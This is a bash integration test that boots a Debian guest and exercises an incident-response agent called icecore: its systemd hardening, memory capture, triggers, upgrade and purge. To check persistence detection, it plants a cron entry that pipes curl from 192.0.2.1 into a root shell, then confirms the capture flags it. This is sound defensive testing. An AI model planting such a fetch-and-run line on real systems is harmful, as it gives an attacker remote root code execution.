#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
#
# systemd.sh KERNEL PROGRAMS
#
# A Debian with systemd as a guest: the package is installed and starts nothing
# by itself; with a configuration the hardened unit watches, records, captures
# all of memory when it is told to, and what arrived is verified here.  What the
# unit forbids is tried under its own settings.  An upgrade goes on as the new
# version; what purge leaves is what was there before, and evidence.
# Prints TAP; fails when a check fails, or fewer ran than there are.
set -euo pipefail
export LC_ALL=C
. "$(dirname "${BASH_SOURCE[0]}")/lib.sh"
PATH=$PATH:/usr/sbin:/sbin

[ $# -eq 2 ] || die "usage: systemd.sh KERNEL PROGRAMS"
kernel=$1 programs=$2
guest_kernel "$kernel"
checks=29

tmp=$(mktemp -d "${TMPDIR:-/tmp}/icecore-systemd.XXXXXX")
trap 'rm -rf "$tmp"' EXIT

# The tree that the tests of disks use, as a file system; made once.
tree=$("$guest_top/tests/disk/tree.sh")
image=$guest_cache/systemd.ext4
if [ ! -e "$image" ] || [ "$tree.done" -nt "$image" ]; then
	mke2fs -q -t ext4 -O ^has_journal -d "$tree" "$tmp/image" 600M
	mv "$tmp/image" "$image"
fi

# Packages that need no library of the guest: of the static build, in two
# versions.
"$guest_top/deploy/static/build.sh" >/dev/null
for version in 0.1.0 9.9.9; do
	cpack --config "$guest_top/build/static/CPackConfig.cmake" -G DEB \
		-B "$tmp/$version" -R "$version" -D CPACK_COMPONENTS_ALL=agent \
		>"$tmp/cpack.log" 2>&1 || { tail -n 5 "$tmp/cpack.log"; die "no deb"; }
	mkdir -p "$tmp/debs"
	mv "$tmp/$version"/icecore_*.deb "$tmp/debs/$version.deb"
done

recipient=$("$programs/icelab" keygen -o "$tmp/key")
cat >"$tmp/icecore.conf" <<-EOT
	[capture]
	case = standby
	to = /var/lib/icecore/evidence
	recipient = $recipient
	cloud = none
	level = -5
	binaries = none
	collect = kernel,event,process,file,network,integrity,memory
	[watch]
	state = /run/icecore/state.json
	metrics = /run/icecore/icecore.prom
	[trigger socket]
	path = /run/icecore/watch.sock
EOT

cat >"$tmp/script" <<'SCRIPT'
. /checks.sh
failed=0
unit=/usr/lib/systemd/system/icecore.service
config=/etc/icecore/icecore.conf
hostname guest

# files: all of this system but what dpkg and the test keep themselves, and the
# index of what systemctl enables.
files() {
	find / /run/icecore -xdev \( -path /var/lib/dpkg -o -path /var/log -o \
		-path /var/cache -o -path /out -o -path /tmp \) -prune -o -print \
		2>/dev/null | sort -u
}
until_true() {
	n=0
	until "$@"; do
		n=$((n + 1))
		[ $n -lt 300 ] || return 1
		sleep 0.1
	done
}
is_state() {
	[ "$(systemctl is-active icecore)" = "$1" ]
}
waits() {
	icecore status 2>/dev/null | head -n 1 | grep -q waiting
}
enabled_is() {
	[ "$(systemctl is-enabled icecore 2>/dev/null)" = "$1" ]
}
main_pid() {
	systemctl show -p MainPID --value icecore
}
# all_refused FILE: and if not, say what was not.  A systemd that was built
# without BPF_FRAMEWORK, as Debian's 252, has no SocketBindDeny.
all_refused() {
	if systemctl --version | grep -q -- -BPF_FRAMEWORK; then
		echo "# this systemd cannot forbid to listen (-BPF_FRAMEWORK)"
		grep -v '^listen-' "$1" >/tmp/tried
	else
		cp "$1" /tmp/tried
	fi
	[ "$(grep -c . /tmp/tried)" -ge 23 ] && ! grep ' allowed$' /tmp/tried
}
all_allowed() {
	[ "$(grep -c ' allowed$' "$1")" -ge 25 ] || { grep -v ' allowed$' "$1"; false; }
}
limits() {
	systemctl show icecore -p MemoryMax -p NoNewPrivileges -p ProtectSystem |
		tr '\n' ' ' | grep -q 'MemoryMax=402653184 .*NoNewPrivileges=yes'
}
hardened() {
	grep -q '^NoNewPrivs:.1$' "/proc/$(main_pid)/status" &&
		grep -q '^Seccomp:.2$' "/proc/$(main_pid)/status"
}
bpf_is_used() {
	icecore status --json >/out/status.json
	journalctl -b -u icecore -o cat >/out/journal
	! grep 'not watched' /out/journal
}
trigger() {
	icecore trigger --case INC-1 --reason drill >/out/answer.json
	status=$?
	cat /out/answer.json
	[ $status -eq 0 ] || [ $status -eq 3 ]
}
only_evidence_differs() {
	files >/tmp/after
	diff /tmp/before /tmp/after
}

files >/tmp/before
check "the package installs" sh -c "dpkg -i /debs/0.1.0.deb >/tmp/dpkg 2>&1"
check "it enables nothing" enabled_is disabled
systemctl start icecore
check "without a configuration nothing starts" is_state inactive
cp /icecore.conf $config
chmod 600 $config
check "the configuration is right" icecore watch --config $config --check
# On a disk: what lies above the image is memory, which is what is captured.
mkdir -p /out/evidence /var/lib/icecore/evidence
mount --bind /out/evidence /var/lib/icecore/evidence
check "it starts, and says when it is ready" systemctl enable --now icecore
check "it is active" is_state active
check "it waits" until_true waits
check "status is well" icecore status
check "the unit's limits hold" limits
check "privileges and system calls are bound" hardened
check "all of the recorder's programs run" bpf_is_used
check "a trigger captures" trigger
check "the health file is written" test -s /run/icecore/icecore.prom
check "SIGHUP reloads" systemctl reload icecore
check "it waits again" until_true waits
sed -i 's/^level = -5/&\nsource = kcore/' $config
systemctl reload icecore
reloaded() {
	journalctl -b -u icecore -o cat | grep -c ': reloaded' | grep -q 2
}
check "a source is chosen by its configuration" until_true reloaded
until_true waits
by_kcore() {
	icecore trigger --case kcore >/out/kcore.json
	status=$?
	cat /out/kcore.json
	[ $status -eq 3 ] && grep -q '"memory_source":"kcore"' /out/kcore.json
}
check "a trigger captures by /proc/kcore" by_kcore

# What it may not, by its own settings.
/forbidden >/tmp/free
check "root may all of it" all_allowed /tmp/free
sed -e 's|^ExecStart=.*|ExecStart=/bin/sh -c "/forbidden >/var/lib/icecore/tried"|' \
	-e 's/^Type=.*/Type=oneshot/' -e '/^Restart\|^WatchdogSec\|^ExecReload/d' \
	$unit >/run/systemd/system/try.service
systemctl daemon-reload
systemctl start try
cat /var/lib/icecore/tried
check "the unit may none of it" all_refused /var/lib/icecore/tried
rm /var/lib/icecore/tried /run/systemd/system/try.service

# The disk of a host that runs, within a budget.
echo '* * * * * root curl http://192.0.2.1/x | sh' >/etc/cron.d/planted
disk() {
	name=$1
	shift
	icecore capture --case live --to /out --name "$name" --cloud none \
		-r "$RECIPIENT" --collect disk "$@" 2>/tmp/err
	status=$?
	sed 's/^/# /' /tmp/err
	[ $status -eq 0 ] || [ $status -eq 3 ]
}
check "the host's own disk is looked at" disk all
check "and no more of it than is said" disk little --disk-max 1MiB
rm /etc/cron.d/planted

before=$(main_pid)
dpkg -i /debs/9.9.9.deb >/dev/null
goes_on() {
	waits && [ "$(main_pid)" != "$before" ]
}
check "an upgrade goes on as the new one" until_true goes_on
check "purge" sh -c 'dpkg --purge icecore >/tmp/purge 2>&1'
check "evidence is left, and told" grep -q 'evidence is left' /tmp/purge
check "the watch is gone" sh -c '! pgrep -x icecore'
umount /var/lib/icecore/evidence
rm -r /var/lib/icecore
check "nothing else is left" only_evidence_differs
exit $failed
SCRIPT

out=$tmp/out
# has CAPTURE KIND PATTERN: a record of it fits.
has() {
	"$programs/icelab" show "$out/$1" -i "$tmp/key" --kind "$2" \
		--format jsonl >"$tmp/shown" 2>/dev/null || [ $? = 3 ]
	if grep -q -- "$3" "$tmp/shown"; then
		echo "ok - $1 has a $2 that says $3"
	else
		echo "not ok - $1 has no $2 that says $3"
	fi
}
{
	"$guest_dir/boot.sh" --kernel "$kernel" --timeout 150 --memory 768 \
		--systemd "$image" --out "$out" --env OPENSSL_ia32cap=0 --env "RECIPIENT=$recipient" \
		--out-size 512 --script "$tmp/script" \
		--add "$tmp/debs:/debs" --add "$tmp/icecore.conf:/icecore.conf" \
		--add "$(guest_build forbidden):/forbidden" ||
		echo "not ok - the guest: status $?"
	evidence=$(echo "$out"/evidence/INC-1/guest/*)
	status=0
	"$programs/icelab" verify "$evidence" >"$tmp/verify" 2>&1 || status=$?
	sed 's/^/# /' "$tmp/verify"
	if [ "$status" = 0 ] || [ "$status" = 3 ]; then
		echo "ok - what arrived is whole"
	else
		echo "not ok - verify: status $status"
	fi
	has live/guest/all finding '"persistence.cron".*"/etc/cron.d/planted"'
	has live/guest/little gap 'more bytes than may be read'
} | guest_judge "$checks"
